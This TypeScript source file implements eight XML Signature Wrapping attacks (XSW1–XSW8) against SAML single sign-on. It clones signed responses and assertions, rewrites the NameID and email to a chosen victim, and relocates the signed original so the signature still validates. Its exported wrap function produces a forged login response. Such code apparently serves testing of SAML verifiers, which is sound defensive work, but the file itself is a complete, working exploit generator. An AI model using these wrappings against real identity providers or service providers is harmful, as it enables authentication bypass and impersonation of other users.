import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

const read = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml')
const write = (node: Document) => new XMLSerializer().serializeToString(node)

const named = (node: Document | Element, name: string): Element =>
  Array.from(node.getElementsByTagName('*')).find(({ localName }) => localName === name)!
const child = (node: Element, name: string): Element | undefined =>
  Array.from(node.childNodes).find((one): one is Element => (one as Element).localName === name)

function unsigned<Node extends Element>(element: Node): Node {
  const copy = element.cloneNode(true) as Node
  const signature = child(copy, 'Signature')
  if (signature) copy.removeChild(signature)
  return copy
}

/** The attacker's copy: another person, another id. */
function evil(element: Element, victim: string, { keepsId = false } = {}): Element {
  const copy = element.cloneNode(true) as Element
  if (!keepsId) copy.setAttribute('ID', '_evil')
  const nameId = named(copy, 'NameID')
  nameId.textContent = victim
  for (const value of Array.from(copy.getElementsByTagName('*')))
    if (value.localName === 'AttributeValue' && value.textContent?.includes('@'))
      value.textContent = `${victim}@catena.example`
  return copy
}

interface Parts {
  document: Document
  response: Element
  assertion: Element
  victim: string
}

/** Replaces the root by the attacker's copy, which keeps the signature of the original. */
function replaceRoot(
  { document, response, victim }: Parts,
  place: (copy: Element, signature: Element) => void,
) {
  const signed = child(response, 'Signature') ? response : undefined
  const copy = evil(response, victim)
  const signature =
    child(copy, 'Signature') ??
    copy.insertBefore(named(copy, 'Signature').cloneNode(true) as Element, child(copy, 'Status')!)
  place(copy, signature)
  document.replaceChild(copy, signed ?? response)
}

/**
 * Eight ways to wrap a signed element (XSW1 to XSW8): the signature stays right for the original, which is moved, and
 * the attacker's copy stands where it is read.
 */
export const WRAPPINGS: readonly ((parts: Parts) => void)[] = [
  (parts) => replaceRoot(parts, (_copy, signature) => void signature.appendChild(unsigned(parts.response))),
  (parts) =>
    replaceRoot(parts, (copy, signature) => void copy.insertBefore(unsigned(parts.response), signature)),
  ({ response, assertion, victim }) =>
    void response.insertBefore(unsigned(evil(assertion, victim)), assertion),
  ({ response, assertion, victim }) => {
    const copy = unsigned(evil(assertion, victim))
    response.replaceChild(copy, assertion)
    copy.appendChild(assertion)
  },
  ({ response, assertion, victim }) => {
    const copy = evil(assertion, victim)
    response.replaceChild(copy, assertion)
    response.appendChild(unsigned(assertion))
  },
  ({ response, assertion, victim }) => {
    const copy = evil(assertion, victim)
    response.replaceChild(copy, assertion)
    child(copy, 'Signature')!.appendChild(unsigned(assertion))
  },
  ({ document, response, assertion, victim }) => {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    extensions.appendChild(evil(assertion, victim, { keepsId: true }))
    response.insertBefore(extensions, child(response, 'Status')!)
  },
  ({ document, response, assertion, victim }) => {
    const copy = evil(assertion, victim)
    response.replaceChild(copy, assertion)
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
    object.appendChild(unsigned(assertion))
    child(copy, 'Signature')!.appendChild(object)
  },
]

/** A signed answer, wrapped so that it would sign `victim` in. */
export function wrap(xml: string, form: (parts: Parts) => void, victim: string): string {
  const document = read(xml)
  form({ document, response: document.documentElement, assertion: named(document, 'Assertion'), victim })
  return write(document)
}
